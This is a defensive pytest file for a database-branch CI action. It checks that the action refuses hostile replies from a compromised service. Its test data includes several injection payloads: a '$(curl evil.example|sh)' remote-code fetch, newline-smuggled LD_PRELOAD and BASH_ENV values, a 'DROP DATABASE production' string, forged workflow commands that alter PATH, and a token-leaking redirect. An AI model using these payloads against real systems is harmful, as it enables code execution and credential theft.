"""A service that was taken over, or somebody in between, gets nothing run and nothing exported."""

from collections.abc import Callable
from typing import Any

import pytest

from tests.integration.action.conftest import RealDatabase, script_success
from tests.integration.action.scripted import RUNS, Reply, ScriptedService, run_path, verdict
from tests.integration.action.step import Step

Change = Callable[[dict[str, Any]], dict[str, Any]]


def variable(name: str, value: Any) -> Change:
    return lambda body: body | {"variables": body["variables"] | {name: value}}


HOSTILE: dict[str, Change] = {
    "a line end in a value": variable("PGHOST", "127.0.0.1\nLD_PRELOAD=/evil.so"),
    "a carriage return": variable("PGUSER", "user\rBASH_ENV=/evil"),
    "a NUL": variable("PGDATABASE", "a\0b"),
    "a shell in the host": variable("PGHOST", "$(curl evil.example|sh)"),
    "a socket folder as host": variable("PGHOST", "/var/run/postgresql"),
    "another host in the URL": variable(
        "DATABASE_URL", "postgresql://u:p@evil.example:5432/postgres"
    ),
    "a port out of range": variable("PGPORT", "70000"),
    "a password with markup": variable("PGPASSWORD", "'; DROP DATABASE production; --" * 2),
    "an empty password": variable("PGPASSWORD", ""),
    "a number for a text": variable("PGPORT", 5432),
    "no variables": lambda body: body | {"variables": None},
    "no marker": lambda body: body | {"marker": ""},
    "another database": lambda body: body | {"database": "3ba03b-production"},
    "another environment": lambda body: body | {"environment": "production"},
    "a certificate that is none": lambda body: body | {"ca_certificate": "# nothing"},
    "an endless lease": lambda body: body | {"lease_seconds": 10**9},
    "an unknown result": lambda body: body | {"result": "maybe"},
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_malformed_answer_is_refused_whole(
    step: Step, branch: RealDatabase, service: ScriptedService, what: str
) -> None:
    service.on(run_path("branch"), Reply(body=HOSTILE[what](branch.go().body)))

    finished = step.run(migration_command="touch ran", export_env="true")

    assert finished.exit_code == 1
    assert "was refused" in finished.log.of("error")[0]
    assert not (step.workspace / "ran").exists()
    assert finished.exported == {}


def test_unknown_variables_are_left_out(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    change = variable("LD_PRELOAD", "/evil.so")
    service.on(run_path("branch"), Reply(body=change(branch.go().body)))

    finished = step.run(migration_command="env > seen", export_env="true")

    assert "LD_PRELOAD" not in (step.workspace / "seen").read_text()
    assert finished.exported == branch.variables
    assert "1 variables that this version of the Action does not know" in finished.log.text


def test_a_redirect_is_not_followed_with_the_token(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    location = {"Location": f"{service.url}/stolen"}
    service.on(RUNS, Reply(status=307, body={}, headers=location))

    finished = step.run(migration_command="true")

    assert finished.exit_code == 1
    assert not service.requests("/stolen")
    assert "redirects elsewhere" in finished.log.of("error")[0]


@pytest.mark.parametrize(
    "body", [b"<html>please log in</html>", b"[]", b"{}", b'{"result":"run"}', b"\xff", b"[" * 9999]
)
def test_an_answer_that_is_not_coppices_is_named(
    step: Step, branch: RealDatabase, service: ScriptedService, body: bytes
) -> None:
    service.on(RUNS, Reply(body=body))

    finished = step.run(migration_command="true")

    assert finished.exit_code == 1
    assert service.url in finished.log.of("error")[0]
    assert "Coppice itself failed" not in finished.log.text


def test_the_services_words_are_no_commands(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    words = "::set-env name=PATH::/evil\n::error::forged\r##[add-path]/evil\x1b[2J"
    reply = {"error": "forbidden", "message": words, "advice": words}
    service.on(RUNS, Reply(status=403, body=reply))

    finished = step.run(migration_command="true")

    assert finished.exit_code == 1
    assert {name for name, _ in finished.log.commands} == {"add-mask", "error"}
    assert len(finished.log.of("error")) == 1
    assert "\x1b" not in finished.log.raw
    assert "##[" not in "".join(line for line in finished.log.raw.splitlines() if line[:2] != "::")


def test_the_workflows_command_is_not_replaced_by_the_services(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    script_success(service, branch, command="touch evil", command_source="workflow")

    step.run(migration_command="touch mine")

    assert [file.name for file in step.workspace.iterdir()] == ["mine"]


def test_a_database_with_another_mark_is_not_touched(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    service.on(run_path("branch"), branch.go(marker="0" * 32))

    finished = step.run(migration_command="touch ran")

    assert finished.exit_code == 1
    assert "is not the one that holds" in finished.log.of("error")[0]
    assert not (step.workspace / "ran").exists()
    assert service.reports("branch")[0]["result"] == "failure"


def test_a_failure_of_the_primary_database_cannot_be_called_neutral(
    step: Step, branch: RealDatabase, service: ScriptedService
) -> None:
    service.on(run_path("branch", "/result"), verdict(fails=False))

    finished = step.run(migration_command="false")

    assert finished.exit_code == 1
    assert finished.outputs["result"] == "failure"
